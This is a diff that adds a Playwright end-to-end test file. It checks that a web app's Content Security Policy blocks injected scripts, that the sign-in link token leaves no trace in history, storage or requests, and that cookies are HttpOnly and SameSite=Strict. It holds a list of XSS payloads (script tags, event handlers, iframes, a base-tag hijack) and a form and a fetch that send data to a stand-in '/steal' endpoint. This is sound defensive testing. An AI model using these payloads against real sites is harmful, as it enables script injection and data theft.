@@ -1,0 +1,137 @@
+"""What a real browser lets happen: nothing foreign runs, and the link leaves no trace."""
+
+import pytest
+from playwright.async_api import Browser, BrowserContext, Page, Request, Route, expect
+
+from tests.e2e.page.hands import opened, ready
+from tests.e2e.stage import Stage
+
+pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(60)]
+
+INJECTED = """
+<script>window.hacked = "a script"</script>
+<script type="module">window.hacked = "a module"</script>
+<script src="data:text/javascript,window.hacked='data'"></script>
+<script src="http://127.0.0.1:9/evil.js"></script>
+<img src="/nothing" onerror="window.hacked = 'a handler'">
+<svg onload="window.hacked = 'a drawing'"></svg>
+<style>#composer { display: none }</style>
+<base href="http://127.0.0.1:9/">
+<iframe src="javascript:parent.hacked = 'a frame'"></iframe>
+<iframe srcdoc="<script>parent.hacked = 'another frame'</script>"></iframe>
+<form id="stolen" action="http://127.0.0.1:9/steal"><input name="word" value="secret"></form>
+"""
+
+TRIES = {
+    "a string that is run": "() => eval('window.hacked = 1')",
+    "a function made of a string": "() => new Function('window.hacked = 1')()",
+    "HTML that is set": "() => { document.body.innerHTML = '<img src=x onerror=window.hacked=1>' }",
+    "a script that is written": """() => {
+        const script = document.createElement("script");
+        script.textContent = "window.hacked = 1";
+        document.body.append(script);
+    }""",
+    "a request elsewhere": """() => fetch("http://127.0.0.1:9/steal").then(() => {
+        window.hacked = 1;
+    })""",
+}
+
+
+async def test_what_is_put_into_the_page_on_its_way_does_not_run(
+    browser: Browser, stage: Stage
+) -> None:
+    async with await browser.new_context() as context:
+        await context.request.get(await stage.link())
+        asked: list[Request] = []
+        context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - the library wants a function
+        page = await context.new_page()
+
+        async def inject(route: Route) -> None:
+            answer = await route.fetch()
+            text = (await answer.text()).replace("</main>", f"{INJECTED}</main>")
+            assert "stolen" in text
+            await route.fulfill(response=answer, body=text)
+
+        await page.route(stage.url, inject)
+        await page.goto(stage.url)
+        await ready(page)
+        await expect(page.get_by_label("Message", exact=True)).to_be_visible()
+        await page.evaluate("() => document.querySelector('#stolen').submit()")
+        assert await page.evaluate("window.hacked") is None
+        assert await page.evaluate("document.baseURI") == stage.url
+        assert page.url.startswith(stage.url)
+        # What the policy stops is told as a request that failed for its sake.
+        assert [each.url for each in asked if ":9/" in each.url and each.failure != "csp"] == []
+
+
+@pytest.mark.parametrize("what", TRIES)
+async def test_what_a_foothold_in_the_page_would_try_is_refused(
+    browser: Browser, stage: Stage, what: str
+) -> None:
+    """Even if words did become a script, it could neither make more of them nor send them away."""
+    async with await browser.new_context() as context:
+        await context.request.get(await stage.link())
+        page = await opened(context, stage.url)
+        # A debugger may do what the page may not, so a timer of the page tries it.
+        refused = await page.evaluate(
+            """() => new Promise((resolve) => {
+                document.addEventListener("securitypolicyviolation", (event) => {
+                    resolve(event.violatedDirective);
+                });
+                setTimeout(resolve, 4000, "nothing");
+                setTimeout(async () => await (TRY)().catch?.(() => {}));
+            })""".replace("TRY", TRIES[what])
+        )
+        assert refused in {
+            "script-src",
+            "script-src-elem",
+            "require-trusted-types-for",
+            "connect-src",
+        }
+        assert await page.evaluate("window.hacked") is None
+
+
+async def test_the_link_is_in_no_address_history_storage_or_request(
+    browser: Browser, stage: Stage
+) -> None:
+    async with await browser.new_context() as context:
+        told: list[str] = []
+
+        async def note(request: Request) -> None:
+            if "/enter/" not in request.url:
+                told.append(f"{request.url} {await request.all_headers()}")
+
+        context.on("request", note)
+        page = await context.new_page()
+        await page.goto("about:blank")
+        link = await stage.link()
+        token = link.rpartition("/")[2]
+        await page.goto(link)
+        await ready(page)
+        assert page.url.startswith(f"{stage.url}#/")
+        kept = await page.evaluate(
+            "() => JSON.stringify([document.referrer, location.href, {...localStorage},"
+            " {...sessionStorage}, document.cookie, document.documentElement.outerHTML])"
+        )
+        assert token not in kept
+        assert told
+        assert not [each for each in told if token in each]
+        await page.go_back()
+        assert page.url == "about:blank"
+
+
+async def test_the_cookie_is_for_the_browser_alone(context: BrowserContext, page: Page) -> None:
+    (cookie,) = await context.cookies()
+    assert cookie["name"].startswith("holdfast_")
+    assert cookie["httpOnly"]
+    assert cookie["sameSite"] == "Strict"
+    assert await page.evaluate("document.cookie") == ""
+
+
+async def test_who_signs_out_in_one_tab_is_outside_in_all(
+    context: BrowserContext, page: Page
+) -> None:
+    other = await opened(context, page.url)
+    await page.get_by_role("button", name="Sign out").click()
+    for tab in (page, other):
+        await expect(tab.locator("code")).to_have_text("holdfast link")
